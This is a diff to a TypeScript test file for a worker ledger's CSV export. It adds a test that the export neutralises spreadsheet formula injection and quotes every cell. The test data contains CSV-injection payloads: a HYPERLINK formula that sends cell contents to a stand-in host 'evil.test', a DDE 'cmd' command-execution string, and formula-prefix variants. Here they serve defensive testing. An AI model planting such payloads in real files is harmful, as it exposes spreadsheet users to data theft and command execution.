@@ -1,4 +1,5 @@
 import type { TestService } from '@platform/kernel/testing';
+import { parse } from 'csv-parse/sync';
 import { extractText, getDocumentProxy } from 'unpdf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTenant, startFactory, type TestTenant } from './harness.js';
@@ -25,13 +26,57 @@ describe('the ledger as CSV and the wage slip', () => {
     const res = await call(svc, t, 'GET', `/ledger/worker/${w}/csv`);
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    const lines = res.body.trim().split('\n');
-    expect(lines[0]).toBe('date,type,description,job,step,amount,balance');
-    expect(lines.slice(2).map((l) => l.split(',').slice(-2).join(' '))).toEqual([
+    const rows = parse(res.body) as string[][];
+    expect(rows[0]).toEqual(['date', 'type', 'description', 'job', 'step', 'amount', 'balance']);
+    // Negative amounts stay numbers: a plain decimal is no formula.
+    expect(rows.slice(2, 5).map((r) => r.slice(-2).join(' '))).toEqual([
       '20.00 20.00',
       '-12.50 7.50',
       '-1.25 6.25',
     ]);
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas, and quotes every cell', async () => {
+    const other = await createTenant(svc);
+    await configureTenant(svc, other.id);
+    const victim = await worker(svc, other, 'Meena');
+    const hostile = [
+      '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
+      '+SUM(1,2)',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      'Tea, "masala"\nand biscuits',
+      '-12',
+    ];
+    for (const description of hostile) {
+      const res = await call(svc, other, 'POST', '/ledger/adjustment', {
+        workerId: victim,
+        type: 'canteen',
+        amount: -1,
+        description,
+      });
+      expect(res.statusCode).toBe(201);
+    }
+    const res = await call(svc, other, 'GET', `/ledger/worker/${victim}/csv`);
+    expect(res.statusCode).toBe(200);
+    // Every cell quoted: the header line is quoted too.
+    expect(res.body.split('\n')[0]).toBe('"date","type","description","job","step","amount","balance"');
+    const rows = parse(res.body) as string[][];
+    const descriptions = rows.slice(2).map((r) => r[2]);
+    expect(descriptions).toEqual([
+      '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")',
+      "'+SUM(1,2)",
+      "'-2+3+cmd|' /C calc'!A0",
+      "'@SUM(1+1)",
+      "'\t=1+1",
+      "'\r=1+1",
+      'Tea, "masala"\nand biscuits',
+      '-12',
+    ]);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    expect(rows.slice(2).map((r) => r[5])).toEqual(Array(hostile.length).fill('-1.00'));
   });
 
   it('renders the period’s earnings, payments and closing balance as a PDF', async () => {
